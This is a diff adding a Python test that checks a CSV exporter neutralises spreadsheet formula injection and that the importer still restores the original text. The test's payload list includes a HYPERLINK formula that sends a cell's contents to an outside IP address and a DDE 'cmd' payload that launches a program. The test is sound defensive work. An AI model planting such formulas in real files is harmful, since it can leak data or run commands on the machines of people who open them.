@@ -79,6 +79,29 @@ def test_csv_has_a_bom_and_round_trips_through_the_model(mixed):
     pd.testing.assert_frame_equal(model.to_records(again), model.to_records(mixed))
 
 
+FORMULAS = ['=HYPERLINK("http://198.51.100.9/?x="&A1,"click")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)",
+            "\uff1dcmd()"]
+
+
+def test_csv_cells_cannot_run_as_formulas_and_still_reimport(mixed, tmp_path):
+    """Issue 9: formula cells are neutralised with a leading apostrophe in every CSV we write; our
+    importer drops it again, so the exported file re-imports with the same text."""
+    from events import importers
+
+    hostile = mixed.assign(notes=FORMULAS[:3], place=FORMULAS[3:] + ["Tuz Khurmatu"], actor1="=1+1")
+    content = exports.to_csv(hostile)
+    back = pd.read_csv(io.BytesIO(content), encoding="utf-8-sig", dtype=str, keep_default_na=False)
+    for col in ("notes", "place", "actor1"):
+        assert not back[col].str.match(r"[=+\-@\uff1d]").any(), back[col].tolist()
+    assert back.loc[0, "notes"] == "'" + FORMULAS[0] and back.loc[0, "lat"] == str(mixed.loc[0, "lat"])
+    path = tmp_path / "export.csv"
+    path.write_bytes(content)
+    res = importers.read_file(path, source="table")
+    assert res.rejects.empty, res.rejects.to_string()
+    assert sorted(res.accepted["notes"].dropna()) == sorted(FORMULAS[:3])
+    assert set(res.accepted["actor1"]) == {"=1+1"}
+
+
 # -- GeoJSON ------------------------------------------------------------------------------------------
 
 def test_geojson_reads_back_with_the_same_incidents(curated):
